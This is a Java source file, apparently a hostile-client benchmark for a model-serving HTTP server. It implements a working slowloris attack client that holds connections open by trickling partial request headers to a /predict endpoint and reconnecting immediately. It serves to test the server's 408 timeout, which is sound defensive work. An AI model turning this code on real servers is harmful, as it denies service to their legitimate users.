package dev.litserve4j.benchmarks.hostile;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.BooleanSupplier;

/**
 * One slowloris client: sends half a request head, then one more byte of a header value every few
 * seconds, never the blank line that ends the head; when the server answers or closes, it connects
 * again at once. The server should answer 408 when its head timeout (10 s by default) has passed.
 */
final class Slowloris implements Runnable {

    private static final byte[] HALF_HEAD = ("POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            + "Content-Type: application/json\r\nX-Trickle: ").getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress server;
    private final long trickleMillis;
    private final AttackStats stats;
    private final BooleanSupplier running;

    Slowloris(InetSocketAddress server, long trickleMillis, AttackStats stats, BooleanSupplier running) {
        this.server = server;
        this.trickleMillis = trickleMillis;
        this.stats = stats;
        this.running = running;
    }

    @Override
    public void run() {
        while (running.getAsBoolean()) {
            Socket socket = new Socket();
            String ending = AttackStats.KEPT;
            try {
                socket.connect(server, 5_000);
            } catch (IOException e) {
                stats.refused();
                close(socket);
                Pause.millis(100);
                continue;
            }
            stats.connected(socket);
            try {
                OutputStream out = socket.getOutputStream();
                InputStream in = socket.getInputStream();
                out.write(HALF_HEAD);
                // Jitter, so that a thousand clients do not move in lockstep.
                long jitter = ThreadLocalRandom.current().nextLong(trickleMillis / 4 + 1);
                socket.setSoTimeout((int) (trickleMillis - trickleMillis / 8 + jitter));
                ending = null;
                while (ending == null && running.getAsBoolean()) {
                    try {
                        ending = AttackStats.readEnding(in); // the read doubles as the pause between bytes
                    } catch (SocketTimeoutException quiet) {
                        out.write('a');
                    }
                }
            } catch (IOException e) {
                ending = "reset";
            } finally {
                stats.ended(socket, ending == null ? AttackStats.KEPT : ending);
                close(socket);
            }
        }
    }

    static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException ignored) {
            // already gone
        }
    }
}
